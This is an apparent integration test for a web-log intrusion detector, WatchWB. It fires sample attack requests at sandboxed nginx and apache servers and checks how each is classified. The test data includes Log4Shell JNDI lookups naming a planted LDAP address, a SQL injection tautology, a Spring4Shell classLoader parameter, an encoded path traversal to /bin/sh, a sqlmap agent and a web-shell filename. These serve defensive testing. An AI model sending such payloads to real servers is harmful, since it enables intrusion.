// Attacks that real nginx and apache log in a shape the rules used to miss, through the lines
// WBinstance prints, a private rsyslogd and a running WatchWB; each from an address of its own.
// Before: a quote in the referrer hid sqlmap's user agent from the scanner rule; a JNDI lookup
// in the basic-auth user of a browser's GET and a nested lookup were read as traffic; a raw
// quote closing a SQL string, Spring4Shell's classLoader parameter, apache's %%32%65 traversal
// and a web shell's name counted nothing; a search for "union select committee" counted as
// SQL injection. The address a payload names is never counted.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Netns, joinVeth } from '../helpers/netns.js';
import { startRsyslog, type PrivateRsyslog } from '../helpers/rsyslog.js';
import { closeService, prepareService, startService } from '../helpers/sandbox.js';
import { startWebServer, request, type WebServer } from '../helpers/web.js';
import { makeSandbox, type Sandbox } from '../modules/WatchWB/sandbox.js';

const SERVER = '192.0.2.1';
const PLANTED = '198.51.100.99';
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const SHOP = 'shop.example.org:80', STATIC = 'static.example.org:80', WWW = 'www.example.org:8080';

/** One request: the client's source address, the site, the request, and what WatchWB must make of it. */
interface Case { from: string; site: string; path: string; opts?: Parameters<typeof request>[2]; status: number; rule?: string; instance: string }
const url = (site: string, path: string): string => `http://${SERVER}${site === WWW ? ':8080' : ''}${path}`;

const ATTACKS: Case[] = [
  { from: '192.0.2.11', site: WWW, path: '/', opts: { agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', referer: 'http://x.example/"quoted"' }, status: 200, rule: 'scanner-agent', instance: WWW },
  { from: '192.0.2.12', site: SHOP, path: '/', opts: { agent: FIREFOX, user: `\${jndi:ldap://${PLANTED}/a}:x` }, status: 200, rule: 'log4j', instance: SHOP },
  { from: '192.0.2.13', site: SHOP, path: `/?x=\${\${upper:j}ndi:ldap://${PLANTED}/a}`, opts: { agent: FIREFOX }, status: 200, rule: 'log4j', instance: SHOP },
  { from: '192.0.2.14', site: WWW, path: "/item?id=1'%20OR%20'1'='1", status: 404, rule: 'sql-injection', instance: WWW },
  { from: '192.0.2.15', site: STATIC, path: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', opts: { method: 'POST', data: 'a=1' }, status: 405, rule: 'exploit', instance: STATIC },
  { from: '192.0.2.16', site: WWW, path: '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh', status: 400, rule: 'traversal', instance: WWW },
  { from: '192.0.2.17', site: SHOP, path: '/wso112233.php', status: 404, rule: 'backdoor', instance: SHOP },
];
const HARMLESS: Case[] = [
  { from: '192.0.2.20', site: SHOP, path: '/search?q=union+select+committee', opts: { agent: FIREFOX }, status: 404, instance: SHOP },
  { from: '192.0.2.21', site: WWW, path: '/?s=%27rock%27+and+%27roll%27', opts: { agent: FIREFOX }, status: 200, instance: WWW },
];

describe('attacks real web servers log in shapes the rules used to miss', () => {
  let sb: Sandbox, rs: PrivateRsyslog, nginx: WebServer, apache: WebServer, client: Netns;
  beforeAll(async () => {
    sb = await makeSandbox('TRACE=yes\nGEOTRACK=\nMAX_AFFAIRS=30\nTIME_SLICE=60', { dns: false });
    await prepareService(sb, 'WatchWB', { watcher: 'STOP_GRACE=5\n' });
    for (const [key, type] of [[SHOP, 'generic'], [STATIC, 'static'], [WWW, 'generic']]) {
      const r = await sb.run('bin/WBinstance', ['add', key, type]);
      expect(r.exitCode, r.stderr).toBe(0);
    }
    client = await Netns.create();
    await joinVeth(sb.ns, client, SERVER, '192.0.2.10', ['wev0', 'wec0']);
    for (const c of [...ATTACKS, ...HARMLESS]) await client.ok('ip', ['addr', 'add', `${c.from}/24`, 'dev', 'wec0']);
    rs = await startRsyslog({ fifoBase: sb.inst.fifoBase });
    nginx = await startWebServer(sb.ns, 'nginx', [{ vhost: 'shop.example.org', port: 80, type: 'generic' }, { vhost: 'static.example.org', port: 80, type: 'static' }], rs.socket);
    apache = await startWebServer(sb.ns, 'apache', [{ vhost: 'www.example.org', port: 8080, type: 'generic' }], rs.socket);
    await startService(sb, 'WatchWB');
  }, 90_000);
  afterAll(async () => {
    await closeService(sb, nginx, apache, rs);
    await client?.destroy();
  });

  it('counts each attack for its client under its instance; the harmless searches and the planted address never', async () => {
    const got: number[] = [];
    for (const c of [...HARMLESS, ...ATTACKS]) got.push((await request(client, url(c.site, c.path), { host: c.site.split(':')[0], from: c.from, ...c.opts })).status);
    expect(got).toEqual([...HARMLESS, ...ATTACKS].map((c) => c.status));
    for (const c of ATTACKS) {
      await sb.waitFor(`${c.rule} of ${c.from} in the database`, () => sb.row(c.from) !== undefined, 20_000);
      expect(sb.row(c.from), c.path).toMatchObject({ rule: c.rule, modclass: c.instance, origin: 'WatchWB' });
      await sb.waitFor(`${c.from} in tarpit or custody`, async () => (await sb.members('tarpit')).has(c.from) || (await sb.members('custody')).has(c.from), 20_000);
    }
    // The harmless requests went first: read and recognised, nothing counted.
    // The status file is written after the database row: wait for the count, do not race it.
    const lines = (): number => { const i = sb.status()?.instances ?? {}; return (i[SHOP]?.lines ?? 0) + (i[WWW]?.lines ?? 0) + (i[STATIC]?.lines ?? 0); };
    await sb.waitFor('every request read under its instance', () => lines() >= ATTACKS.length + HARMLESS.length, 20_000);
    for (const c of HARMLESS) expect(sb.row(c.from), c.path).toBeUndefined();
    expect(sb.row(PLANTED)).toBeUndefined();
    expect((await sb.members('tarpit')).has(PLANTED)).toBe(false);
    expect((await sb.members('custody')).has(PLANTED)).toBe(false);
    expect(sb.status()).toMatchObject({ untreated: 0, ambiguous: 0 });
  }, 120_000);
});
